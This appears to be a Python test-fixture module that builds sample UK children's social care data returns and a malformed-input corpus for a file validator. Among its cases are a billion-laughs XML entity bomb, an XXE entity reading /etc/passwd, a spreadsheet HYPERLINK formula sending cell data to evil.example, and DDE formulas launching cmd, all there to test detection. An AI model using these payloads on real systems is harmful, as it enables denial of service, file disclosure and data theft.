"""Builders for test returns and the malformed-input corpus (>= 40 cases).

Loaded by path from the tests (see `load_builders` in each test module), so no package is needed.
Every case is (name, file name, bytes factory, expected rule ids). An empty expected set means
"at least one finding, rule not pinned".
"""

from __future__ import annotations

import datetime as dt
import io
import random
import zipfile
from collections.abc import Callable, Sequence
from dataclasses import dataclass, field

import xlsxwriter

DR2_HEADER = [
    "Child ID",
    "Referral ID (or Case ID)",
    "Referral Date",
    "Referral No further action",
    "Assessment actual start date",
    "Outcome of Single Assessment",
    "Factors identified at the end of assessment",
    "Number of previous child protection plans",
    "Gender",
    "Year and month of birth of the child",
    "Ethnicity",
    "Disabled status",
    "Unaccompanied Asylum Seeker",
]


def dr2_row(
    child="C1",
    ref="R1",
    date="15/06/2021",
    nfa="0",
    ast="16/06/2021",
    outcome="Yes",
    factors="1B, 3A",
    prev="0",
    gender="Male",
    birth="03/2015",
    eth="WBRI",
    dis="N",
    uasc="N",
):
    return [child, ref, date, nfa, ast, outcome, factors, prev, gender, birth, eth, dis, uasc]


def xlsx_bytes(sheets: Sequence[tuple[str, Sequence[Sequence[object]]]]) -> bytes:
    buf = io.BytesIO()
    wb = xlsxwriter.Workbook(buf, {"in_memory": True, "strings_to_formulas": False, "strings_to_urls": False})
    date_fmt = wb.add_format({"num_format": "dd/mm/yyyy"})
    for name, rows in sheets:
        ws = wb.add_worksheet(name)
        for i, row in enumerate(rows):
            for j, v in enumerate(row):
                if isinstance(v, dt.date | dt.datetime):
                    ws.write_datetime(i, j, dt.datetime(v.year, v.month, v.day), date_fmt)
                elif v is None:
                    continue
                elif isinstance(v, str):
                    ws.write_string(i, j, v)
                else:
                    ws.write(i, j, v)
    wb.close()
    return buf.getvalue()


def dr2_xlsx(
    rows: Sequence[Sequence[object]],
    *,
    header=DR2_HEADER,
    offset=3,
    sheet="DR2 - Data - sample pop",
    preamble=("Family Safeguarding data return",),
) -> bytes:
    top: list[list[object]] = [[p] for p in preamble]
    top += [[] for _ in range(offset - len(top))]
    return xlsx_bytes([("Notes", [["Read me"]]), (sheet, [*top, list(header), *[list(r) for r in rows]])])


def csv_bytes(rows: Sequence[Sequence[object]], *, newline="\n", final_newline=True, encoding="utf-8") -> bytes:
    def cell(v: object) -> str:
        s = "" if v is None else str(v)
        return '"' + s.replace('"', '""') + '"' if any(c in s for c in ',"\n') else s

    text = newline.join(",".join(cell(c) for c in r) for r in rows)
    if final_newline:
        text += newline
    return text.encode(encoding)


HEADER_903 = ["CHILD", "SEX", "DOB", "ETHNIC", "UPN", "MOTHER", "MC_DOB"]
EPISODES_903 = [
    "CHILD",
    "DECOM",
    "RNE",
    "LS",
    "CIN",
    "PLACE",
    "PLACE_PROVIDER",
    "DEC",
    "REC",
    "REASON_PLACE_CHANGE",
    "HOME_POST",
    "PL_POST",
    "URN",
]


def episode(child="100", decom="01/05/2021", rne="S", ls="C2", place="U1", dec="01/09/2021", rec="E4A"):
    return [child, decom, rne, ls, "N1", place, "PR1", dec, rec, "", "", "", ""]


@dataclass
class CinChild:
    la_child_id: str = "CH1"
    birth: str | None = "2015-03-27"
    expected: str | None = None
    gender: str = "1"
    ethnicity: str = "WBRI"
    disabilities: Sequence[str] = ("NONE",)
    referral: str = "2021-06-01"
    source: str = "1A"
    nfa: str = "false"
    assessments: Sequence[tuple[str, str | None, Sequence[str]]] = (("2021-06-02", "2021-06-20", ("1B", "3A")),)
    cin_plans: Sequence[tuple[str, str | None]] = ()
    s47: Sequence[tuple[str, str | None, str]] = ()
    cpps: Sequence[tuple[str, str | None, str, str]] = ()
    extra: str = ""
    upn: str | None = "A123456789012"


def cin_xml(
    children: Sequence[CinChild],
    *,
    year: int = 2022,
    lea: str = "335",
    gender_element: str | None = None,
    ns: str | None = None,
    header: bool = True,
) -> bytes:
    """A CIN census document for the census ending 31 March `year`."""
    gel = gender_element or ("Sex" if year >= 2025 else "GenderCurrent")
    parts = ['<?xml version="1.0" encoding="UTF-8"?>', f"<Message{f' xmlns={chr(34)}{ns}{chr(34)}' if ns else ''}>"]
    if header:
        parts.append(
            f"<Header><CollectionDetails><Collection>CIN</Collection><Year>{year}</Year>"
            f"<ReferenceDate>{year}-03-31</ReferenceDate></CollectionDetails>"
            f"<Source><SourceLevel>L</SourceLevel><LEA>{lea}</LEA></Source></Header>"
        )
    parts.append("<Children>")
    for c in children:
        ids = [f"<LAchildID>{c.la_child_id}</LAchildID>"]
        if c.upn:
            ids.append(f"<UPN>{c.upn}</UPN>")
        if c.birth:
            ids.append(f"<PersonBirthDate>{c.birth}</PersonBirthDate>")
        if c.expected:
            ids.append(f"<ExpectedPersonBirthDate>{c.expected}</ExpectedPersonBirthDate>")
        ids.append(f"<{gel}>{c.gender}</{gel}>")
        dis = "".join(f"<Disability>{d}</Disability>" for d in c.disabilities)
        det = [f"<CINreferralDate>{c.referral}</CINreferralDate><ReferralSource>{c.source}</ReferralSource>"]
        for start, auth, factors in c.assessments:
            f = "".join(f"<AssessmentFactors>{x}</AssessmentFactors>" for x in factors)
            det.append(
                f"<Assessments><AssessmentActualStartDate>{start}</AssessmentActualStartDate>"
                + (f"<AssessmentAuthorisationDate>{auth}</AssessmentAuthorisationDate>" if auth else "")
                + f"<FactorsIdentifiedAtAssessment>{f}</FactorsIdentifiedAtAssessment></Assessments>"
            )
        for start, end in c.cin_plans:
            det.append(
                f"<CINPlanDates><CINPlanStartDate>{start}</CINPlanStartDate>"
                + (f"<CINPlanEndDate>{end}</CINPlanEndDate>" if end else "")
                + "</CINPlanDates>"
            )
        for start, icpc, not_req in c.s47:
            det.append(
                f"<Section47><S47ActualStartDate>{start}</S47ActualStartDate>"
                + (f"<DateOfInitialCPC>{icpc}</DateOfInitialCPC>" if icpc else "")
                + f"<ICPCnotRequired>{not_req}</ICPCnotRequired></Section47>"
            )
        det.append(f"<ReferralNFA>{c.nfa}</ReferralNFA>")
        for start, end, cat, prev in c.cpps:
            det.append(
                f"<ChildProtectionPlans><CPPstartDate>{start}</CPPstartDate>"
                + (f"<CPPendDate>{end}</CPPendDate>" if end else "")
                + f"<InitialCategoryOfAbuse>{cat}</InitialCategoryOfAbuse>"
                f"<LatestCategoryOfAbuse>{cat}</LatestCategoryOfAbuse>"
                f"<NumberOfPreviousCPP>{prev}</NumberOfPreviousCPP></ChildProtectionPlans>"
            )
        parts.append(
            f"<Child><ChildIdentifiers>{''.join(ids)}</ChildIdentifiers>"
            f"<ChildCharacteristics><Ethnicity>{c.ethnicity}</Ethnicity><Disabilities>{dis}</Disabilities>"
            f"</ChildCharacteristics><CINdetails>{''.join(det)}</CINdetails>{c.extra}</Child>"
        )
    parts.append("</Children></Message>")
    return "\n".join(parts).encode()


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol9 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
]>
<Message><Header><CollectionDetails><Collection>CIN</Collection></CollectionDetails></Header>
<Children><Child><ChildIdentifiers><LAchildID>&lol9;</LAchildID></ChildIdentifiers></Child></Children></Message>
"""

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE Message [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<Message><Children><Child><ChildIdentifiers><LAchildID>&xxe;</LAchildID></ChildIdentifiers></Child></Children></Message>
"""


def broken_sheet_xlsx() -> bytes:
    """A real workbook whose sheet XML was replaced by junk: the sheet list reads, the sheet does not."""
    good = dr2_xlsx([dr2_row()])
    src = zipfile.ZipFile(io.BytesIO(good))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        for item in src.infolist():
            data = src.read(item.filename)
            if item.filename.startswith("xl/worksheets/"):
                data = b'<worksheet><sheetData><row><c r="A1" t="s"><v>'
            z.writestr(item, data)
    return out.getvalue()


def sparse_xlsx() -> bytes:
    """A DR2 sheet with one stray cell at row 1,000,001, column 16,001: a dense grid of 16e9 cells."""
    buf = io.BytesIO()
    wb = xlsxwriter.Workbook(buf, {"in_memory": True})
    ws = wb.add_worksheet("DR2 - Data - sample pop")
    for j, label in enumerate(DR2_HEADER):
        ws.write_string(0, j, label)
    ws.write_string(1_000_000, 16_000, "x")
    wb.close()
    return buf.getvalue()


def _junk(n: int, seed: int) -> bytes:
    return random.Random(seed).randbytes(n)


@dataclass
class Case:
    name: str
    filename: str
    make: Callable[[], bytes]
    expect: set[str] = field(default_factory=set)
    fatal: bool = False


def _cin1(**kw) -> bytes:
    return cin_xml([CinChild(**kw)])


CASES: list[Case] = [
    # -- empty and binary -------------------------------------------------------------------------
    Case("empty", "empty.csv", lambda: b"", {"FMT-002"}, True),
    Case("whitespace_only", "blank.csv", lambda: b"  \n\r\n\t \n", {"FMT-002"}, True),
    Case("binary_junk", "junk.bin", lambda: _junk(4096, 1), set(), True),
    Case("binary_junk_csv_name", "header.csv", lambda: _junk(20000, 2), set(), True),
    Case(
        "nul_bytes_after_903_header", "header.csv", lambda: b"CHILD,SEX,DOB,ETHNIC\n" + b"\x00" * 500, {"FMT-018"}, True
    ),
    Case("only_bom", "bom.csv", lambda: b"\xef\xbb\xbf", set(), True),
    Case("png_bytes", "image.csv", lambda: b"\x89PNG\r\n\x1a\n" + _junk(300, 3), set(), True),
    Case("gzip_bytes", "data.csv", lambda: b"\x1f\x8b\x08\x00" + _junk(300, 4), set(), True),
    # -- encodings --------------------------------------------------------------------------------
    Case(
        "cp1252_903",
        "header.csv",
        lambda: csv_bytes(
            [
                HEADER_903,
                ["1", "1", "01/02/2015", "WBRI", "", "", ""],
                ["2", "2", "01/02/2016", "Caf\u00e9", "", "", ""],
            ],
            encoding="cp1252",
        ),
        {"FMT-003"},
    ),
    Case(
        "latin1_undefined_cp1252", "header.csv", lambda: b"CHILD,SEX,DOB,ETHNIC\n1,1,01/02/2015,W\x81BRI\n", {"FMT-003"}
    ),
    Case(
        "utf16_903",
        "header.csv",
        lambda: csv_bytes([HEADER_903, ["1", "1", "01/02/2015", "WBRI", "", "", ""]], encoding="utf-16"),
        set(),
    ),
    Case(
        "mac_cr_newlines",
        "header.csv",
        lambda: csv_bytes([HEADER_903, ["1", "1", "01/02/2015", "XXXX", "", "", ""]], newline="\r"),
        set(),
    ),
    # -- CSV structure ----------------------------------------------------------------------------
    Case("header_only_no_newline", "episodes.csv", lambda: ",".join(EPISODES_903).encode(), set()),
    Case(
        "duplicated_headers",
        "header.csv",
        lambda: csv_bytes([["CHILD", "SEX", "SEX", "DOB", "ETHNIC"], ["1", "1", "2", "01/02/2015", "WBRI"]]),
        {"FMT-006"},
    ),
    Case(
        "ragged_rows",
        "episodes.csv",
        lambda: csv_bytes([EPISODES_903, episode()[:5], [*episode(), "x", "y"]]),
        {"FMT-011"},
    ),
    Case("unterminated_quote", "episodes.csv", lambda: csv_bytes([EPISODES_903]) + b'100,"01/05/2021,S,C2\n', set()),
    Case(
        "formula_hyperlink",
        "episodes.csv",
        lambda: csv_bytes([EPISODES_903, episode(ls='=HYPERLINK("http://evil.example/?x="&A1,"Click")')]),
        {"FMT-010"},
    ),
    Case(
        "formula_dde",
        "episodes.csv",
        lambda: csv_bytes([EPISODES_903, episode(place="+cmd|' /C calc'!A0")]),
        {"FMT-010"},
    ),
    Case(
        "formula_at_sum",
        "episodes.csv",
        lambda: csv_bytes([EPISODES_903, episode(rne="@SUM(1+1)*cmd|'/C calc'!A0")]),
        {"FMT-010"},
    ),
    Case(
        "ten_mb_cell",
        "header.csv",
        lambda: csv_bytes([HEADER_903, ["1", "1", "01/02/2015", "W" * 10_000_000, "", "", ""]]),
        {"FMT-009"},
    ),
    Case(
        "very_wide_header",
        "header.csv",
        lambda: csv_bytes([[*HEADER_903, *[f"EXTRA{i}" for i in range(5000)]], ["1", "1", "01/02/2015", "WBRI"]]),
        {"MIN-001"},
    ),
    Case(
        "dates_year_1900", "episodes.csv", lambda: csv_bytes([EPISODES_903, episode(decom="01/01/1900")]), {"DATE-003"}
    ),
    Case(
        "dates_year_2099", "episodes.csv", lambda: csv_bytes([EPISODES_903, episode(decom="31/12/2099")]), {"DATE-003"}
    ),
    Case(
        "dob_1900",
        "header.csv",
        lambda: csv_bytes([HEADER_903, ["1", "1", "01/01/1900", "WBRI", "", "", ""]]),
        {"DATE-004"},
    ),
    Case("not_a_date", "episodes.csv", lambda: csv_bytes([EPISODES_903, episode(decom="next tuesday")]), {"DATE-001"}),
    Case(
        "serial_out_of_range", "episodes.csv", lambda: csv_bytes([EPISODES_903, episode(decom="99999")]), {"DATE-001"}
    ),
    Case(
        "impossible_date", "episodes.csv", lambda: csv_bytes([EPISODES_903, episode(decom="31/02/2021")]), {"DATE-001"}
    ),
    Case("missing_child_id", "episodes.csv", lambda: csv_bytes([EPISODES_903, episode(child="")]), {"KEY-001"}),
    Case(
        "school_text_in_numbers",
        "2021_spring_pupilonroll.csv",
        lambda: csv_bytes(
            [["la_child_id", "termlysessionspossible", "termlysessionsunauthorised"], ["1", "lots", "-3"]]
        ),
        {"NUM-001", "NUM-002"},
    ),
    Case(
        "school_no_id",
        "2021_spring_pupilonroll.csv",
        lambda: csv_bytes([["surname", "termlysessionspossible"], ["Smith", "120"]]),
        {"FMT-008"},
        True,
    ),
    # -- XML --------------------------------------------------------------------------------------
    Case("truncated_cin", "cin.xml", lambda: _cin1()[:-60], {"FMT-004"}, True),
    Case("billion_laughs", "cin.xml", lambda: BILLION_LAUGHS, {"FMT-005"}, True),
    Case("xxe_external_entity", "cin.xml", lambda: XXE, {"FMT-005"}, True),
    Case(
        "billion_laughs_903_root",
        "903.xml",
        lambda: BILLION_LAUGHS.replace(b"Message", b"EXPSSDA903"),
        {"FMT-005"},
        True,
    ),
    Case("cin_invalid_utf8", "cin.xml", lambda: _cin1().replace(b"WBRI", b"W\xff\xfeRI"), {"FMT-004"}, True),
    Case(
        "cin_deep_nesting",
        "cin.xml",
        lambda: _cin1().replace(b"</CINdetails>", b"<X>" * 3000 + b"</X>" * 3000 + b"</CINdetails>"),
        set(),
    ),
    Case("cin_no_header", "cin.xml", lambda: cin_xml([CinChild()], header=False), {"FMT-019", "FMT-014"}),
    Case("cin_unknown_elements", "cin.xml", lambda: _cin1(extra="<Mystery><Deeper>x</Deeper></Mystery>"), {"FMT-012"}),
    Case("cin_name_in_ethnicity", "cin.xml", lambda: _cin1(ethnicity="Amelia Hartley"), {"ID-106"}),
    Case("cin_nhs_in_source", "cin.xml", lambda: _cin1(source="943 476 5919"), {"ID-101"}),
    Case(
        "cin_dates_1900_2099",
        "cin.xml",
        lambda: _cin1(referral="1900-01-01", assessments=(("2099-01-01", None, ()),)),
        {"DATE-003", "DATE-007"},
    ),
    Case("cin_ten_mb_text", "cin.xml", lambda: _cin1(ethnicity="W" * 10_000_000), set()),
    Case("cin_text_after_root", "cin.xml", lambda: _cin1() + b"<Trailing/>", {"FMT-004"}, True),
    Case(
        "truncated_903_xml",
        "903.xml",
        lambda: b"<?xml version='1.0'?><EXPSSDA903><CHILD><HEADER><CHILDID>1</CHILDID><SEX>1</SEX>",
        {"FMT-004"},
        True,
    ),
    # -- spreadsheets -----------------------------------------------------------------------------
    Case("xlsx_corrupt_zip", "dr2.xlsx", lambda: b"PK\x03\x04" + _junk(2000, 5), set(), True),
    Case("xlsx_broken_sheet", "dr2.xlsx", broken_sheet_xlsx, {"FMT-017"}, True),
    Case("xlsx_stray_far_cell", "dr2.xlsx", sparse_xlsx, {"FMT-023"}, True),
    Case(
        "xlsx_dr2_no_header",
        "dr2.xlsx",
        lambda: xlsx_bytes([("DR2 - Data - sample pop", [["a", "b"], [1, 2]])]),
        {"FMT-007"},
        True,
    ),
    Case(
        "xlsx_dr2_missing_child_id",
        "dr2.xlsx",
        lambda: dr2_xlsx([dr2_row()[1:]], header=DR2_HEADER[1:]),
        {"FMT-008"},
        True,
    ),
    Case(
        "xlsx_dr2_formula_text",
        "dr2.xlsx",
        lambda: dr2_xlsx([dr2_row(gender='=HYPERLINK("http://evil.example","x")')]),
        {"FMT-010"},
    ),
    Case(
        "xlsx_dr2_duplicate_header",
        "dr2.xlsx",
        lambda: dr2_xlsx([[*dr2_row(), "F"]], header=[*DR2_HEADER, "Gender"]),
        {"FMT-006"},
    ),
    Case(
        "xlsx_dr2_dates_1900_2099",
        "dr2.xlsx",
        lambda: dr2_xlsx([dr2_row(date=dt.date(1900, 1, 1)), dr2_row(child="C2", date=dt.date(2099, 1, 1))]),
        {"DATE-003", "DATE-007"},
    ),
    Case("xlsx_dr2_empty_sheet", "dr2.xlsx", lambda: xlsx_bytes([("DR2", [])]), {"FMT-007"}, True),
    Case("xlsx_no_return_sheets", "book.xlsx", lambda: xlsx_bytes([("Sheet1", [["hello"]])]), {"FMT-001"}, True),
    Case(
        "csv_dr2_cp1252",
        "walsall_dr2_nov21.csv",
        lambda: csv_bytes([DR2_HEADER, dr2_row(gender="Caf\u00e9")], encoding="cp1252"),
        {"FMT-003", "CODE-001"},
    ),
]
